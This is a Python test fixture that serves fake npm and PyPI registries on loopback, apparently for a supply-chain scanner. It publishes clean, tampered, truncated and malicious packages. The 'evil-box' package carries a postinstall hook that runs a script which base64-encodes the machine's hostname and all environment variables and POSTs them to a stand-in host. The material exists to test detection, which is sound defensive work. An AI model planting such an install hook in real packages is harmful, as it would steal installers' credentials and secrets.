"""A registry of npm and PyPI packages on loopback, published by a test, as Sigil asks one."""

from __future__ import annotations

import asyncio
import base64
import gzip
import hashlib
import io
import json
import tarfile
import zipfile
from collections.abc import AsyncIterator, Mapping
from typing import Any

from tests.adapters.conftest import Chunks, Loopback

SIMPLE_JSON = "application/vnd.pypi.simple.v1+json"
CLEAN = {"index.js": "module.exports = (box) => box.length;\n", "README.md": "# A box\n"}
THIEF = """
const https = require("https");
const os = require("os");
const body = Buffer.from(JSON.stringify({ host: os.hostname(), env: process.env })).toString("base64");
const request = https.request({ hostname: "collector.invalid", path: "/in", method: "POST" });
request.write(body);
request.end();
"""
EVIL = {"index.js": "module.exports = 1;\n", "setup.js": THIEF}


class PackageRegistry:
    """Publishes packages at `npm` and `pypi`, the addresses of the two registries."""

    def __init__(self, loopback: Loopback) -> None:
        self._loopback = loopback
        self._versions: dict[str, dict[str, Any]] = {}
        self.npm = f"http://127.0.0.1:{loopback.port}/npm"
        self.pypi = f"http://127.0.0.1:{loopback.port}/simple"

    def publish(
        self,
        name: str,
        version: str,
        files: Mapping[str, str] = CLEAN,
        *,
        body: Chunks | None = None,
        integrity: str | None = None,
        **manifest: Any,
    ) -> None:
        """Publish a version on npm; `body` answers for its archive, whose hash is `integrity`."""
        told = {"name": name, "version": version, **manifest}
        data = npm_archive({"package.json": json.dumps(told), **files})
        path = f"/npm/{name}/-/{name}-{version}.tgz"
        hashed = "sha512-" + base64.b64encode(hashlib.sha512(data).digest()).decode()
        dist = {"tarball": f"http://127.0.0.1:{self._loopback.port}{path}", "integrity": integrity or hashed}
        if body is None:
            self._loopback.page(path, data, "application/octet-stream")
        else:
            self._loopback.stream(path, body)
        versions = self._versions.setdefault(name, {})
        versions[version] = {**told, "dist": dist}
        document = {"name": name, "dist-tags": {"latest": version}, "versions": versions}
        self._loopback.page(f"/npm/{name}", json.dumps(document), "application/json")

    def publish_held(self, name: str, version: str, let_go: asyncio.Event) -> None:
        """Publish a version on npm whose archive comes only when it is let go."""
        data = npm_archive({"package.json": json.dumps({"name": name, "version": version}), **CLEAN})

        async def body() -> AsyncIterator[bytes]:
            head = self._loopback.head(Content_Type="application/octet-stream", Content_Length=str(len(data)))
            yield head + data[:10]
            await let_go.wait()
            yield data[10:]

        self.publish(name, version, body=body)

    def publish_wheel(self, name: str, version: str, files: Mapping[str, str]) -> None:
        """Publish the only version of a project on PyPI, as a wheel."""
        wheel = f"{name.replace('-', '_')}-{version}-py3-none-any.whl"
        self._list(name, version, {wheel: wheel_archive(name, version, files)})

    def publish_python(self, name: str, version: str, module: str) -> None:
        """Publish a module `thief` on PyPI, as a wheel and as sources with a `setup.py` that says the same."""
        plain = name.replace("-", "_")
        sources = {"src/thief.py": module, "setup.py": f"{module}from setuptools import setup\nsetup()\n"}
        archives = {
            f"{plain}-{version}-py3-none-any.whl": wheel_archive(name, version, {"thief.py": module}),
            f"{plain}-{version}.tar.gz": tar_archive(f"{plain}-{version}", sources),
        }
        self._list(name, version, archives)

    def _list(self, name: str, version: str, archives: Mapping[str, bytes]) -> None:
        listed = []
        for file, data in archives.items():
            self._loopback.page(f"/files/{file}", data, "application/octet-stream")
            hashes = {"sha256": hashlib.sha256(data).hexdigest()}
            listed.append({"filename": file, "url": f"../../files/{file}", "hashes": hashes})
        page = {"meta": {"api-version": "1.1"}, "name": name, "files": listed, "versions": [version]}
        self._loopback.page(f"/simple/{name}/", json.dumps(page), SIMPLE_JSON)

    def downloads(self, name: str) -> int:
        """Count how often an archive of a package was asked for."""
        return sum(asked.target.startswith((f"/npm/{name}/-/", f"/files/{name}")) for asked in self._loopback.asked)


def npm_archive(files: Mapping[str, str]) -> bytes:
    """Pack files as npm does."""
    return tar_archive("package", files)


def tar_archive(folder: str, files: Mapping[str, str]) -> bytes:
    """Pack files below a folder; the same files are the same bytes."""
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w") as tar:
        for path, text in files.items():
            entry = tarfile.TarInfo(f"{folder}/{path}")
            entry.size = len(text.encode())
            tar.addfile(entry, io.BytesIO(text.encode()))
    return gzip.compress(packed.getvalue(), mtime=0)


def wheel_archive(name: str, version: str, files: Mapping[str, str]) -> bytes:
    """Pack files as a wheel."""
    about = f"{name.replace('-', '_')}-{version}.dist-info"
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as wheel:
        metadata = {f"{about}/METADATA": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n"}
        for path, text in {**files, **metadata}.items():
            wheel.writestr(zipfile.ZipInfo(path, (2026, 1, 1, 0, 0, 0)), text)
    return packed.getvalue()


def publish_examples(registry: PackageRegistry) -> None:
    """Publish what the tests of several rooms scan."""
    for version in ("1.0.0", "1.1.0", "2.0.0"):
        registry.publish("clean-box", version, {**CLEAN, "version.txt": version})
    registry.publish("evil-box", "6.6.6", EVIL, scripts={"postinstall": "node setup.js"})
    for version in ("1.0.0", "1.0.1"):
        registry.publish("known-box", version, {**CLEAN, "version.txt": version})
    registry.publish("altered-box", "1.0.0", integrity="sha512-" + base64.b64encode(b"x" * 64).decode())
    registry.publish("torn-box", "1.0.0", body=_torn)
    registry.publish_wheel(
        "clean-basket", "3.1", {"clean_basket/__init__.py": "def size(basket):\n    return len(basket)\n"}
    )


async def _torn() -> AsyncIterator[bytes]:
    yield b"HTTP/1.1 200 OK\r\nContent-Length: 1000\r\nConnection: close\r\n\r\nhalf"
